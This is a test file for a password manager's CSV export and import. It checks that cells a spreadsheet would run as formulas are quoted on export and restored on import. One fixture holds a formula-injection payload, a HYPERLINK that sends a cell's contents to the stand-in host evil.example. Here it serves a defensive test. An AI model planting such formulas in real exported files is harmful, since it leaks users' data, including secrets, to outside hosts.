/** `rekey export csv` and formula injection: cells a spreadsheet would run are quoted; import undoes it. */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { freshHome, rekey } from "../testing/cli.js";

const FORMULA = '=HYPERLINK("https://evil.example/?"&D1,"open me")';

test("export csv quotes formula cells and says how many; --raw does not; the export imports back unchanged", () => {
  const { home, env } = freshHome();
  const add = rekey(
    [
      "record",
      "add",
      "--title",
      FORMULA,
      "--set",
      "login=@alice",
      "--set",
      "note_field=+1",
      "--secret",
      "password",
    ],
    { env, input: "-secret+with=signs\n" },
  );
  assert.equal(add.code, 0, add.stderr);
  const plain = rekey(["record", "add", "--title", "plain", "--set", "login=bob"], { env });
  assert.equal(plain.code, 0, plain.stderr);

  const out = rekey(["export", "csv"], { env });
  assert.equal(out.code, 0, out.stderr);
  assert.ok(out.stdout.includes(`'${FORMULA.replace(/"/g, '""')}`), out.stdout);
  assert.match(out.stdout, /,'@alice,'-secret\+with=signs,/);
  assert.match(out.stdout, /note_field,'\+1/);
  assert.doesNotMatch(out.stdout, /(^|,)"?[=+\-@]/m, "no cell starts with a formula character");
  assert.match(out.stderr, /4 cell\(s\) starting with =, \+, -, @, tab or CR were prefixed with '/);

  const raw = rekey(["export", "csv", "--raw"], { env });
  assert.equal(raw.code, 0, raw.stderr);
  assert.match(raw.stdout, /,@alice,-secret\+with=signs,/);
  assert.equal(raw.stderr, "");

  // Import the neutralized export into another vault: the same values, without the quotes.
  const file = join(home, "export.csv");
  writeFileSync(file, out.stdout);
  const other = freshHome();
  const imported = rekey(["import", "csv", file], { env: other.env });
  assert.equal(imported.code, 0, imported.stderr);
  const get = (field: string) => rekey(["record", "get", FORMULA, field], { env: other.env }).stdout;
  assert.equal(get("login"), "@alice\n");
  assert.equal(get("password"), "-secret+with=signs\n");
  assert.equal(get("note_field"), "+1\n");
  const again = rekey(["export", "csv", "--raw"], { env: other.env });
  assert.equal(again.stdout, raw.stdout, "the same cells");
});
